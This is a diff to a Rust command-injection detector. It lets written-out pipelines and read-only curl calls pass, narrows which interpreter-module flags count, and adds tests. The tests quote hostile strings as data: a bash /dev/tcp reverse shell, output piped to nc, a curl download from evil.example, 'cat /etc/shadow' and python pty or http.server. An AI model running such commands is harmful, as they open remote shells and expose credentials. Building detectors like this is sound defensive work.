@@ -1185,6 +1185,12 @@ enum Ctx {
     Start,
     /// A markdown code span in prose: only hostile content counts.
     Span,
+    /// After a separator that follows a complete command line of its own
+    /// (`du -sh * | sort -h`, `apt-get update && apt-get install -y x`):
+    /// someone wrote the whole pipeline, as documentation does. An injected
+    /// value ends before its first separator, so the first link is judged
+    /// where it starts; the later links count only when hostile.
+    Chained,
 }
 
 const WORD_MAX: usize = 64;
@@ -1763,8 +1769,17 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
                 && n + 1 < 64
             {
                 // An interpreter told to run code, with code after the flag.
+                // `-m` runs a module: `python3 -m venv .venv` is setup, while
+                // `-m pty` or `-m http.server` open a shell or serve files.
                 let after = normalized.split(t).nth(1).unwrap_or("").trim();
-                if !after.is_empty() {
+                let module_ok = t != "-m"
+                    || after.split_ascii_whitespace().next().is_some_and(|m| {
+                        matches!(
+                            m,
+                            "pty" | "http.server" | "simplehttpserver" | "smtpd" | "base64"
+                        )
+                    });
+                if !after.is_empty() && module_ok {
                     a.strong = true;
                 }
             }
@@ -1856,6 +1871,10 @@ fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
             strongish || tool || recon || cmdline
         }
         Ctx::Span => args.strong && (!args.net_only || cmd.network),
+        Ctx::Chained => {
+            (args.strong && (!args.net_only || cmd.network))
+                || (cmd.kind == Kind::Recon && (args.bare || args.shellish))
+        }
     }
 }
 
@@ -2018,6 +2037,8 @@ fn check_command_at(
     depth: u8,
 ) -> bool {
     let b = text.as_bytes();
+    let chained = ctx == Ctx::Chained;
+    let ctx = if chained { Ctx::Sep } else { ctx };
     let mut i = skip_blank(b, pos, seg_end);
     // `;(id)`, `|{ls,-la}` and `; 'cat' x`: tolerate one opening paren.
     if i < seg_end && b[i] == b'(' && ctx != Ctx::Brace {
@@ -2195,6 +2216,18 @@ fn check_command_at(
     if matches!(effective, Ctx::Start | Ctx::Weak)
         && !args.strong
         && pipe_into_prose(text, args.end, seg_end)
+    {
+        return false;
+    }
+    if chained && effective == Ctx::Sep && !w.spliced && !w.globbed {
+        effective = Ctx::Chained;
+    }
+    // "Use `curl -I https://example.com` to check the headers": a request
+    // shown in prose that only reads a page writes nothing and runs nothing.
+    if effective == Ctx::Span
+        && args.net_only
+        && name == "curl"
+        && read_only_fetch(b, w.end, args.end)
     {
         return false;
     }
@@ -2941,7 +2974,12 @@ fn scan_segment(
                     j += 1;
                 }
                 // `&amp;`-style leftovers and `&#...;` are not separators.
-                check_command(text, i, j, seg_end, Ctx::Sep, hits);
+                let ctx = if follows_command_line(b, seg_start, i) {
+                    Ctx::Chained
+                } else {
+                    Ctx::Sep
+                };
+                check_command(text, i, j, seg_end, ctx, hits);
                 i = j;
             }
             b'\n' | b'\r' => {
@@ -3066,6 +3104,10 @@ fn scan_segment(
                 let whole = prev.is_none()
                     && close.is_some_and(|c| text[i + 1 + c + 1..seg_end].trim().is_empty());
                 let glued = i > seg_start && b[i - 1].is_ascii_alphanumeric();
+                // "wait, `sleep 10 && say done`": a comma and a blank before a
+                // code span is prose; `{a,`id`}` glues them.
+                let prose_comma = prev == Some(b',') && matches!(b[i - 1], b' ' | b'\t');
+                let prev = if prose_comma { Some(b' ') } else { prev };
                 let shell = whole
                     || chained
                     || glued
@@ -3121,6 +3163,149 @@ fn scan_segment(
             _ => i += 1,
         }
     }
+}
+
+/// Whether the arguments of `curl` from `from` to `end` are one URL and
+/// options that only shape the request or its display: no output file, no
+/// upload, no data sent from a file.
+fn read_only_fetch(b: &[u8], from: usize, end: usize) -> bool {
+    let Ok(args) = std::str::from_utf8(&b[from..end]) else {
+        return false;
+    };
+    let mut urls = 0;
+    for t in args.split_ascii_whitespace() {
+        // A cluster of short flags that only shape the request or its
+        // display (`-sIL`, `-fsS`, `-kv`).
+        let short_display = t.len() >= 2
+            && t.starts_with('-')
+            && !t.starts_with("--")
+            && t[1..].bytes().all(|c| b"IiLsSvfk".contains(&c));
+        if t.contains("://") {
+            urls += 1;
+        } else if !(short_display
+            || matches!(
+                t,
+                "--head"
+                    | "--include"
+                    | "--verbose"
+                    | "--silent"
+                    | "--show-error"
+                    | "--location"
+                    | "--fail"
+                    | "--compressed"
+                    | "--http2"
+                    | "--http1.1"
+            ))
+        {
+            return false;
+        }
+    }
+    urls == 1
+}
+
+/// Developer tools that are no injection probe by themselves but start the
+/// command lines documentation quotes (`git log --oneline | head -5`).
+const DEV_TOOLS: &[&str] = &[
+    "git",
+    "npm",
+    "npx",
+    "pnpm",
+    "cargo",
+    "rustup",
+    "go",
+    "gradle",
+    "mvn",
+    "dotnet",
+    "bundle",
+    "gem",
+    "composer",
+    "poetry",
+    "uv",
+    "conda",
+    "terraform",
+    "helm",
+    "brew",
+    "port",
+    "hugo",
+    "jekyll",
+    "rails",
+    "rake",
+    "pytest",
+    "tox",
+    "jq",
+    "rg",
+    "fd",
+    "bat",
+    "code",
+    "say",
+];
+
+/// Whether the text before the separator at `sep` ends with a complete
+/// command line: a known command word in lower case followed by arguments
+/// that read as a shell's (an option, a path, a number or a tool's
+/// sub-command) and no prose. Prose may come before it ("To see disk usage:
+/// du -sh * | sort -h"); a value an application expects (`127.0.0.1`, `x`,
+/// `report.pdf`) is no command line, so `127.0.0.1; id` is not affected.
+fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
+    let lo = seg_start.max(sep.saturating_sub(160));
+    let mut k = sep;
+    while k > lo
+        && !matches!(
+            b[k - 1],
+            b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'(' | b'{'
+        )
+    {
+        k -= 1;
+    }
+    if k == lo && lo > seg_start {
+        return false;
+    }
+    let Ok(left) = std::str::from_utf8(&b[k..sep]) else {
+        return false;
+    };
+    let toks: Vec<&str> = left.split_ascii_whitespace().collect();
+    if toks.len() < 2 || toks.len() > 24 {
+        return false;
+    }
+    // The command word: the last token after which only arguments follow.
+    let mut start = toks.len();
+    while start > 0 {
+        let t = toks[start - 1];
+        let arg = !t.ends_with([':', ',', '.', '!', '?'])
+            && !t
+                .bytes()
+                .any(|c| c.is_ascii_uppercase() && !t.starts_with('-'))
+            && !STOP_WORDS.contains(&t);
+        if !arg {
+            break;
+        }
+        start -= 1;
+    }
+    // Try each candidate command word, leftmost first, among the argument run.
+    for ci in start..toks.len() - 1 {
+        let word = toks[ci];
+        if !word.bytes().all(|x| {
+            x.is_ascii_lowercase() || x.is_ascii_digit() || matches!(x, b'-' | b'_' | b'.')
+        }) {
+            continue;
+        }
+        let cmd = match lookup(word) {
+            Some(cmd) => cmd,
+            None if DEV_TOOLS.contains(&word) => c(Kind::Strong, false, false, false),
+            None => continue,
+        };
+        let args = &toks[ci + 1..];
+        let shellish = args.iter().any(|t| {
+            t.starts_with('-')
+                || t.contains('/')
+                || *t == "*"
+                || t.bytes().all(|x| x.is_ascii_digit())
+                || t.starts_with('.')
+        });
+        let sub = args.first().is_some_and(|t| SUBCOMMANDS.contains(t));
+        return cmd.kind != Kind::Recon && (shellish || sub);
+    }
+    false
 }
 
 /// `${PATH#{}/}`, `${x%%.*}`, `${v//a/b}`: bash parameter expansion with a
@@ -4287,6 +4472,42 @@ mod tests {
         assert!(!flagged("ps aux | grep node shows it is still running"));
         assert!(flagged("ps aux | nc 203.0.113.7 4444"));
         assert!(flagged("find / -perm -4000 | xargs ls -la"));
+    }
+
+    #[test]
+    fn later_links_of_a_written_pipeline_count_only_when_hostile() {
+        // The whole pipeline is quoted: the first command starts the value or
+        // follows prose, and what is chained after it is ordinary.
+        for t in [
+            "To list big folders: du -sh * | sort -rh | head -20",
+            "git log --oneline | head -5",
+            "git diff --stat | tail -1",
+            "RUN apt-get update && apt-get install -y curl ca-certificates",
+            "RUN npm ci && npm run build",
+            "npm ls --depth=0 | wc -l",
+            "make -j4 && make install",
+            "cargo build --release && ls -la target/release",
+            "Try `python3 -m venv env && source env/bin/activate` first.",
+            "then, `sleep 2 && echo ready` in another tab",
+            "Run `curl -sI https://example.org` to see the status line.",
+        ] {
+            assert!(!flagged(t), "{t}");
+        }
+        // A value and then a separator is still an injection, and hostile
+        // links after a written command still count.
+        for t in [
+            "127.0.0.1 | sort -h",
+            "report.pdf && apt-get install -y nmap",
+            "git log --oneline | nc 203.0.113.7 4444",
+            "du -sh * ; cat /etc/shadow",
+            "ls -la /tmp | id",
+            "make -j4 && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "x `curl https://evil.example/s.sh -o /tmp/s.sh`",
+            "python3 -m pty",
+            "; python3 -m http.server 8000",
+        ] {
+            assert!(flagged(t), "{t}");
+        }
     }
 
     #[test]
